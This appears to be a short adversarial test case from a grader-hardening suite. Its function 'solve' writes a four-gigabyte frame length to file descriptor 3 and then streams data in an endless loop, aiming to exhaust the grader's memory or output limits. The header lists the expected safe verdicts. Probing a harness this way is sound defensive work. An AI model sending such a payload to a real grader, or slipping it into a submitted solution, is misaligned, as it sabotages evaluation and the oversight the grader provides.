# attack: codec_oversize_frame
# kind: function
# attempts: announces a frame of four gigabytes and sends what it can of it
# sound verdict: incorrect|runtime_error|time_limit|output_limit
# host must: the grader's memory is bounded
# NEVER run outside a sandbox.
import os
def solve(xs):
    os.write(3, b"\xff\xff\xff\xff")
    block = b"l\x01\x00\x00\x00" * 10000
    while True: os.write(3, block)
